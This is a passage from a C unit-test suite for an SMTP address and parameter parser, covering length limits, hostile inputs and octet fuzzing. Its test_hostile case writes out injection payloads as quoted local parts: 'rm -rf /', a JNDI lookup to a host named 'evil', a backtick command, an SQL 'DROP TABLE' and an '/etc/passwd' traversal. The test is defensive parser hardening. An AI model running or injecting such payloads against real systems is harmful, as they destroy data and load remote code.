    memcpy(s, " ORCPT=rfc822;+C3+B6", 20);
    for (int k = 0; k < 82; k++) memcpy(s + 20 + 3 * k, "+2B", 3);
    s[20 + 3 * 82] = 0;
    ck_assert(rcpt(s));
    ck_assert_uint_eq(strlen(rp.orcpt), 500);
    memcpy(s + 20 + 3 * 82, "+2B", 4);
    rcpt_bad(s, "501 5.5.4");
    /* many leading zeros are still just a number */
    memcpy(s, " SIZE=", 6);
    memset(s + 6, '0', 300);
    memcpy(s + 306, "42", 3);
    ck_assert(mail(s));
    ck_assert_uint_eq(mp.size, 42);
}
END_TEST

START_TEST(test_hostile)
{
    /* shell metacharacters and ${...} are plain octets to SMTP */
    const char *quoted[] = {
        "<\"$(rm -rf /)\"@x.example>", "<\"${jndi:ldap://evil/a}\"@x.example>",
        "<\"`id`;|&<>*?\"@x.example>", "<\"'; DROP TABLE users; --\"@x.example>",
        "<\"../../etc/passwd\"@x.example>",
    };
    for (size_t i = 0; i < sizeof quoted / sizeof quoted[0]; i++) {
        char want[64];
        size_t n = strlen(quoted[i]);
        memcpy(want, quoted[i] + 1, n - 2);
        want[n - 2] = 0;
        ok(quoted[i], 1, want);
        ck_assert(p.quoted);
        char u[65];
        ck_assert(!smtp_path_local_user(&p, u, sizeof u));
    }
    ok("<${HOME}|x@x.example>", 1, "${HOME}|x@x.example");   /* all atext */
    bad("<a;b@x.example>", 1, "501 5.1.3");
    bad("<a`b>", 1, "501 5.1.3");
    /* every single octet, and every octet inside a path: refuse or accept, never crash */
    for (int c = 0; c < 256; c++) {
        char one = (char)c;
        (void)parse_n(&one, 1, c & 1);
        char s[] = "<a?b@x?y.example>";
        s[2] = s[6] = (char)c;
        if (parse_n(s, sizeof s - 1, 1)) ck_assert(p.addr_len > 0 && strlen(p.addr) == p.addr_len);
        else assert_reply_line(reply, "501 5.1.3");
    }
    /* long garbage is bounded */
    memset(big, '<', sizeof big);
    bad_n(big, sizeof big, 1, "501 5.1.3");
    memset(big, '"', sizeof big);
    bad_n(big, sizeof big, 1, "501 5.1.3");
    memset(big, '@', sizeof big);
    bad_n(big, sizeof big, 1, "501 5.1.3");
    memset(big, 'a', sizeof big);
    bad_n(big, sizeof big, 1, "501 5.1.3 Recipient local part too long");
    memset(big, ' ', sizeof big);
    bad_n(big, sizeof big, 0, "501 5.1.7 Missing sender");
    memset(big, '=', sizeof big);
    ck_assert(!smtp_mail_params_parse(big, sizeof big, &mp, &reply));
    memset(big, 'A', sizeof big);
    ck_assert(!smtp_rcpt_params_parse(big, sizeof big, &rp, &reply));
    assert_reply_line(reply, "555 5.5.4");
}
END_TEST

int main(void)
{
    Suite *s = suite_create("smtp_addr");
    TCase *core = tcase_create("core");
    tcase_add_test(core, test_plain_and_telnet_forms);
    tcase_add_test(core, test_null_path_and_postmaster);
    tcase_add_test(core, test_quoted_local);
    tcase_add_test(core, test_dot_atom);
    tcase_add_test(core, test_quoted_plain_is_unquoted);
    tcase_add_test(core, test_literals);
    tcase_add_test(core, test_routes_and_flags);
    tcase_add_test(core, test_refusals);
    tcase_add_test(core, test_utf8);
    tcase_add_test(core, test_local_user);
    tcase_add_test(core, test_parse_ull);
    tcase_add_test(core, test_mail_params);
    tcase_add_test(core, test_rcpt_params);
    suite_add_tcase(s, core);
    TCase *limits = tcase_create("limits");
    tcase_add_test(limits, test_local_limit);
    tcase_add_test(limits, test_domain_and_path_limits);
    tcase_add_test(limits, test_label_limit);
    tcase_add_test(limits, test_param_limits);
    tcase_add_test(limits, test_hostile);
    suite_add_tcase(s, limits);
    SRunner *sr = srunner_create(s);
    srunner_run_all(sr, CK_NORMAL);
    int failed = srunner_ntests_failed(sr);
    srunner_free(sr);
    return failed == 0 ? 0 : 1;
}
